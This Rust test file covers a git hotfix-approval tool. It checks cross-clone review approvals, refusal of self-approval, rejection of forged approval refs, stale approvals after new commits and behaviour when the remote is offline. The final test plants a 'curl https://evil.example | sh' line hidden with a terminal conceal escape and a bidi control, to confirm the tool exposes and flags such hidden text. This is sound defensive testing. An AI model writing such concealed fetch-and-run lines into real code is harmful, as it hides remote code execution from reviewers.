//! `hotfix approve` and the review gate, across clones: a bare origin, the author's clone and
//! reviewers' clones with their own identities.

use crate::support::{Env, REVIEWER, Repo};

const BRANCH: &str = "hotfix/login-500";

/// An origin, the author's clone (releases v1.0.0 and v1.1.0 pushed with their tags, hotfix
/// started from v1.1.0, a fix committed and the branch pushed) and a reviewer's clone.
struct Team {
    env: Env,
    origin: Repo,
    author: Repo,
    reviewer: Repo,
}

fn team(policy: Option<&str>) -> Team {
    let env = Env::new();
    let (origin, author) = env.origin_and_clone();
    if let Some(toml) = policy {
        author.commit_file("hotfix.toml", toml, "hotfix policy");
    }
    author.commit_file("app.txt", "version 1.0\n", "release 1.0");
    author.git(&["tag", "-a", "v1.0.0", "-m", "v1.0.0"]);
    author.commit_file("app.txt", "version 1.1\n", "release 1.1");
    author.git(&["tag", "v1.1.0"]);
    author.commit_file("feature.txt", "unreleased\n", "work after the release");
    author.git(&["push", "-q", "origin", "main", "--tags"]);
    author.start("login-500").ok();
    author.commit_file("app.txt", "version 1.1\nfixed login\n", "Fix the login 500");
    author.git(&["push", "-q", "-u", "origin", BRANCH]);
    let reviewer = env.clone_of(&origin, "reviewer", REVIEWER);
    Team {
        env,
        origin,
        author,
        reviewer,
    }
}

/// The review gate as the author's `status --json` reports it.
/// The review gate as the author's `status` judges it, a while after the last status (which
/// would otherwise not ask the remote again so soon).
fn review_gate(repo: &Repo) -> serde_json::Value {
    repo.forget_last_fetch();
    let json = repo.hotfix(&["status", "--json"]).ok().json();
    json["hotfix"]["gates"]
        .as_array()
        .expect("status lists the gates")
        .iter()
        .find(|g| g["gate"] == "review")
        .cloned()
        .expect("a review gate")
}

fn approval_refs(git_dir_repo: &Repo) -> Vec<String> {
    git_dir_repo
        .git(&[
            "for-each-ref",
            "--format=%(refname)",
            "refs/hotfix/approvals",
        ])
        .lines()
        .map(String::from)
        .collect()
}

#[test]
fn an_approval_pushed_from_another_clone_reaches_the_author() {
    let t = team(None);
    let before = review_gate(&t.author);
    assert_eq!(before["passed"], false, "{before}");
    assert!(
        before["reason"]
            .as_str()
            .unwrap()
            .contains("not approved yet"),
        "{before}"
    );
    assert!(
        before["next"]
            .as_str()
            .unwrap()
            .contains("hotfix approve hotfix/login-500"),
        "{before}"
    );

    // The reviewer has no state entry and no local branch: only origin/hotfix/login-500.
    let run = t
        .reviewer
        .hotfix(&["approve", BRANCH, "--push", "--yes"])
        .ok();
    assert!(
        run.stdout.contains("Fix the login 500"),
        "the reviewer sees the commits:\n{}",
        run.stdout
    );
    assert!(
        run.stdout.contains("app.txt"),
        "the reviewer sees the diff stat:\n{}",
        run.stdout
    );
    assert!(
        run.stderr.contains("pushed the approval to origin"),
        "{}",
        run.stderr
    );

    let tree = t.author.rev("HEAD^{tree}");
    let on_origin = approval_refs(&t.origin);
    assert_eq!(on_origin.len(), 1, "{on_origin:?}");
    assert!(
        on_origin[0].starts_with(&format!("refs/hotfix/approvals/{BRANCH}/{tree}/")),
        "{on_origin:?}"
    );
    let record: serde_json::Value =
        serde_json::from_str(&t.origin.git(&["cat-file", "blob", &on_origin[0]])).unwrap();
    assert_eq!(record["reviewer_name"], "Rita Reviewer");
    assert_eq!(record["reviewer_email"], "rita@example.com");
    assert_eq!(record["tree"], tree.as_str());
    assert_eq!(record["commit"], t.author.head().as_str());
    assert_eq!(record["branch"], BRANCH);
    assert!(
        record["approved_at"]
            .as_str()
            .unwrap()
            .parse::<jiff::Timestamp>()
            .is_ok()
    );

    // The author's status fetches it.
    assert!(approval_refs(&t.author).is_empty());
    let gate = review_gate(&t.author);
    assert_eq!(gate["passed"], true, "{gate}");
    assert_eq!(
        gate["reason"],
        "approved by Rita Reviewer <rita@example.com>"
    );
    assert_eq!(approval_refs(&t.author), on_origin);

    // Approving again changes nothing and still succeeds.
    let again = t
        .reviewer
        .hotfix(&["approve", BRANCH, "--push", "--yes"])
        .ok();
    assert!(
        again.stderr.contains("already approved"),
        "{}",
        again.stderr
    );
    assert_eq!(approval_refs(&t.origin), on_origin);
}

#[test]
fn the_reviewer_may_name_the_remote_branch_or_the_hotfix() {
    let t = team(None);
    t.reviewer
        .hotfix(&["approve", "origin/hotfix/login-500", "--yes", "--json"])
        .ok();
    let tree = t.author.rev("HEAD^{tree}");
    let refs = approval_refs(&t.reviewer);
    assert_eq!(refs.len(), 1, "{refs:?}");
    assert!(refs[0].starts_with(&format!("refs/hotfix/approvals/{BRANCH}/{tree}/")));

    let other = t
        .env
        .clone_of(&t.origin, "other", ("Bob Builder", "bob@example.com"));
    let run = other
        .hotfix(&["approve", "login-500", "--yes", "--json"])
        .ok();
    let json = run.json();
    assert_eq!(json["branch"], BRANCH);
    assert_eq!(json["tree"], tree.as_str());
    assert_eq!(json["reviewer_email"], "bob@example.com");
    assert_eq!(json["pushed"], false);
}

#[test]
fn nobody_approves_their_own_fix() {
    let t = team(None);
    // Same email, other name and case, in another clone: still the author.
    let again = t
        .env
        .clone_of(&t.origin, "ann-laptop", ("Annie A.", "ANN@example.com"));
    again.refused_env(
        &["approve", BRANCH, "--push", "--yes"],
        &[],
        1,
        "you cannot approve hotfix/login-500",
    );
    assert!(approval_refs(&again).is_empty());
    assert!(approval_refs(&t.origin).is_empty());

    // In the author's own clone too.
    t.author
        .hotfix(&["approve", "--yes"])
        .fails(1, "an author or committer of commit");
    assert!(approval_refs(&t.author).is_empty());
}

#[test]
fn an_approval_written_by_hand_by_the_author_does_not_count() {
    let t = team(None);
    let tree = t.author.rev("HEAD^{tree}");
    let record = serde_json::json!({
        "schema": 2,
        "branch": BRANCH,
        "tree": tree,
        "commit": t.author.head(),
        "base": t.author.rev("v1.1.0^{commit}"),
        "base_tag": "v1.1.0",
        "shown": "diff",
        "reviewer_name": "Ann Author",
        "reviewer_email": "ann@example.com",
        "approved_at": "2026-01-15T10:00:00Z",
    });
    let path = t.env.path().join("forged.json");
    std::fs::write(&path, record.to_string()).unwrap();
    let blob = t.author.git(&["hash-object", "-w", path.to_str().unwrap()]);
    // the exact ref `hotfix approve` would write for this email
    let key = "ann-at-example-com-";
    let hash = {
        let h = "ann@example.com"
            .bytes()
            .fold(0xcbf2_9ce4_8422_2325_u64, |h, b| {
                (h ^ u64::from(b)).wrapping_mul(0x0100_0000_01b3)
            });
        format!("{h:016x}")
    };
    let refname = format!("refs/hotfix/approvals/{BRANCH}/{tree}/{key}{hash}");
    t.author.git(&["update-ref", &refname, blob.trim()]);

    let gate = review_gate(&t.author);
    assert_eq!(gate["passed"], false, "{gate}");
    assert!(
        gate["reason"]
            .as_str()
            .unwrap()
            .contains("the approval by Ann Author does not count"),
        "{gate}"
    );
}

#[test]
fn a_new_commit_makes_the_approval_stale() {
    let t = team(None);
    t.reviewer
        .hotfix(&["approve", BRANCH, "--push", "--yes"])
        .ok();
    let approved = t.author.head();
    assert_eq!(review_gate(&t.author)["passed"], true);

    t.author.commit_file(
        "app.txt",
        "version 1.1\nfixed login properly\n",
        "Handle the empty token",
    );
    let gate = review_gate(&t.author);
    assert_eq!(gate["passed"], false, "{gate}");
    let reason = gate["reason"].as_str().unwrap();
    assert!(
        reason.contains(&format!(
            "approval by Rita Reviewer is for an older tree (at commit {}); ask for a new review",
            &approved[..10]
        )),
        "{reason}"
    );
    let text = t.author.hotfix(&["status"]).ok();
    assert!(
        text.stdout.contains("is for an older tree"),
        "{}",
        text.stdout
    );
    // the new commit is only here: a teammate would review the old tree, so the push is next
    assert!(
        text.stdout.contains(
            "✗ the newest commit of hotfix/login-500 is only in this clone (not pushed to origin)"
        ),
        "{}",
        text.stdout
    );
    assert!(
        text.stdout.contains(
            "next: git push origin hotfix/login-500, then a teammate runs `hotfix approve hotfix/login-500`"
        ),
        "{}",
        text.stdout
    );

    // A new review of the new tree passes again.
    t.author.git(&["push", "-q", "origin", BRANCH]);
    t.reviewer
        .hotfix(&["approve", BRANCH, "--push", "--yes"])
        .ok();
    assert_eq!(review_gate(&t.author)["passed"], true);
}

#[test]
fn two_approvals_need_two_distinct_reviewers() {
    let t = team(Some("[review]\napprovals = 2\n"));
    t.reviewer
        .hotfix(&["approve", BRANCH, "--push", "--yes"])
        .ok();
    let gate = review_gate(&t.author);
    assert_eq!(gate["passed"], false, "{gate}");
    assert_eq!(
        gate["reason"],
        "1 of 2 approvals (Rita Reviewer <rita@example.com>)"
    );

    // The same reviewer from another clone, with the email in other case, is not a second one.
    let rita2 = t
        .env
        .clone_of(&t.origin, "rita-laptop", ("Rita R.", "RITA@example.com"));
    rita2.hotfix(&["approve", BRANCH, "--push", "--yes"]).ok();
    let gate = review_gate(&t.author);
    assert_eq!(gate["passed"], false, "{gate}");
    assert!(
        gate["reason"]
            .as_str()
            .unwrap()
            .starts_with("1 of 2 approvals"),
        "{gate}"
    );

    let bob = t
        .env
        .clone_of(&t.origin, "bob", ("Bob Builder", "bob@example.com"));
    bob.hotfix(&["approve", BRANCH, "--push", "--yes"]).ok();
    let gate = review_gate(&t.author);
    assert_eq!(gate["passed"], true, "{gate}");
    let reason = gate["reason"].as_str().unwrap();
    assert!(
        reason.contains("Rita Reviewer") && reason.contains("Bob Builder"),
        "{reason}"
    );
}

#[test]
fn an_approval_not_pushed_stays_in_the_reviewers_clone() {
    let t = team(None);
    let run = t.reviewer.hotfix(&["approve", BRANCH, "--yes"]).ok();
    assert!(
        run.stderr.contains("--push"),
        "says how to send it: {}",
        run.stderr
    );
    assert_eq!(approval_refs(&t.reviewer).len(), 1);
    assert!(approval_refs(&t.origin).is_empty());

    let gate = review_gate(&t.author);
    assert_eq!(gate["passed"], false, "{gate}");
    assert_eq!(gate["reason"], "not approved yet");

    // Pushing later sends the approval already made; no new review is needed.
    let push = t.reviewer.hotfix(&["approve", BRANCH, "--push"]).ok();
    assert!(push.stderr.contains("already approved"), "{}", push.stderr);
    assert_eq!(review_gate(&t.author)["passed"], true);
}

#[test]
fn without_a_terminal_approval_needs_yes() {
    let t = team(None);
    let refs = |r: &Repo| approval_refs(r);
    t.reviewer
        .hotfix(&["approve", BRANCH, "--non-interactive"])
        .fails(2, "--yes");
    assert!(refs(&t.reviewer).is_empty());
    assert!(refs(&t.origin).is_empty());
}

#[test]
fn status_works_offline() {
    let t = team(None);
    let gone = t.env.path().join("origin-gone.git");
    std::fs::rename(&t.origin.path, &gone).unwrap();
    let run = t.author.hotfix(&["status", "--json"]).ok();
    assert!(run.stderr.contains("warning:"), "{}", run.stderr);
    let gates = &run.json()["hotfix"]["gates"];
    assert_eq!(gates[1]["gate"], "review");
    assert_eq!(gates[1]["passed"], false);

    // In a reviewer's clone, the base cannot be checked against the remote's release tags:
    // nothing is recorded.
    t.reviewer.refused_env(
        &["approve", BRANCH, "--push", "--yes"],
        &[],
        2,
        "cannot check where hotfix/login-500 starts: the release tags of origin could not be read",
    );
    // In the author's clone (the base is sealed there), --push with the remote unreachable
    // keeps the approval and says so.
    let run = t
        .author
        .hotfix_env(
            &["approve", "--push", "--yes"],
            &[
                ("GIT_AUTHOR_NAME", REVIEWER.0),
                ("GIT_AUTHOR_EMAIL", REVIEWER.1),
            ],
        )
        .fails(2, "could not be pushed to origin");
    assert!(run.stderr.contains("--push` again"), "{}", run.stderr);
}

#[test]
fn a_branch_the_author_did_not_push_is_not_found() {
    let env = Env::new();
    let (origin, author) = env.origin_and_clone();
    author.commit_file("app.txt", "version 1.0\n", "release 1.0");
    author.git(&["tag", "v1.0.0"]);
    author.git(&["push", "-q", "origin", "main", "--tags"]);
    author.start("login-500").ok();
    author.commit_file("app.txt", "fixed\n", "Fix");
    let reviewer = env.clone_of(&origin, "reviewer", REVIEWER);
    reviewer
        .hotfix(&["approve", BRANCH, "--yes"])
        .fails(2, "there is no branch hotfix/login-500 here or on origin");
}

/// What the author typed reaches the reviewer's terminal with its escapes written out: an
/// escape sequence or a carriage return in a commit summary, a file name or a line of the fix
/// must not hide a file from the stat, conceal the rest of a line (`ESC[8m`) or rewrite what
/// was printed before; and the guard flags such a line, or a bidirectional-text control, for
/// the reviewer (`hidden-text`), as it does a file name with one.
#[test]
fn escape_sequences_the_author_wrote_are_shown_to_the_reviewer_not_obeyed() {
    let t = team(None);
    let hidden = "backdoor\u{1b}[8m";
    t.author.write(hidden, "curl https://evil.example | sh\n");
    t.author.write(
        "app.sh",
        "ok=1 # note\u{1b}[8m; curl https://evil.example | sh\n\u{202e}reversed\n",
    );
    t.author.git(&["add", "-A"]);
    t.author
        .git(&["commit", "-q", "-m", "Tidy\u{1b}[2K\rFix a typo"]);
    t.author.git(&["push", "-q", "origin", BRANCH]);
    let run = t.reviewer.hotfix(&["approve", BRANCH, "--yes"]).ok();
    assert!(
        !run.stdout.contains('\u{1b}') && !run.stdout.contains('\r'),
        "raw escapes reached the reviewer:\n{:?}",
        run.stdout
    );
    for shown in [
        "Tidy\\u{1b}[2K\\u{d}Fix a typo",
        "backdoor\\u{1b}[8m",
        "app.sh:1: hidden-text: ok=1 # note\\u{1b}[8m; curl https://evil.example | sh",
        "app.sh:2: hidden-text: \\u{202e}reversed",
        "hidden-text: a file name with a control character: backdoor\\u{1b}[8m",
    ] {
        assert!(
            run.stdout.contains(shown),
            "{shown} not in:\n{}",
            run.stdout
        );
    }
    // the author sees the same flags
    let json = t.author.hotfix(&["guard", "--json"]).ok().json();
    let kinds: Vec<&str> = json["flags"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["kind"].as_str().unwrap())
        .collect();
    assert_eq!(
        kinds.iter().filter(|k| **k == "hidden-text").count(),
        3,
        "{json:#}"
    );
}
